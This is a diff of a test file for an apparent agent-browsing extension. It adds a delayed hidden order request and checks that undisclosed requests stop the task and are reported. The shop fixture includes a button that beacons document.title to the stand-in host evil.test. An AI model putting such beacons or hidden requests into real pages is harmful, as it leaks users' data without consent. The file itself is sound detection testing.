@@ -2,7 +2,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { Settings } from '../../extension/memory/settings.ts';
 import { askAndAnswer } from '../support/browser/start-talks.ts';
 import { type Scene, startWaymark } from '../support/browser/start-waymark.ts';
-import { press, type ScriptedServer, say, startScriptedServer } from '../support/servers/scripted-server.ts';
+import { call, press, type ScriptedServer, say, startScriptedServer } from '../support/servers/scripted-server.ts';
 
 const waymark = startWaymark();
 let server: ScriptedServer;
@@ -11,6 +11,7 @@ const arrived: string[] = [];
 
 const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <button onclick="fetch('/api/place-order', { method: 'POST', body: 'mug' })">More</button>
+<button onclick="setTimeout(() => fetch('/api/place-order', { method: 'POST' }), 300)">Later</button>
 <button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
 <button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
 <button onclick="document.querySelector('form').submit()">Tab</button>
@@ -40,13 +41,21 @@ async function scene(button: string, strict: Settings['strict']['where'] = 'nowh
   });
 }
 
-test.each(['More', 'Tab'])('the task stops when “%s” sends what it does not say', async (button) => {
+test.each(['More', 'Later', 'Tab'])('the task stops when “%s” sends what it does not say', async (button) => {
   const shown = await scene(button);
+  server.answer(press(button), call('wait', { seconds: 1 }), say('Done.'));
   const last = await shown.ask('Show me more');
   const path = button === 'Tab' ? 'send-it' : 'api/place-order';
   expect(last).toContain(`POST http://shop.test/${path}`);
   expect(arrived[0]).toBe(`POST shop.test/${path}`);
   expect((await shown.turns()).at(-2)).toMatchObject({ type: 'browser' });
+});
+
+test('what “Later” sends is told where the model answers at once too', async () => {
+  const shown = await scene('Later');
+  server.answer(press('Later'), say('Done.'));
+  const last = await shown.ask('Show me more');
+  expect(last, await shown.story()).toContain('POST http://shop.test/api/place-order');
 });
 
 test('a request that names no deed is shown with its step, and stops nothing', async () => {
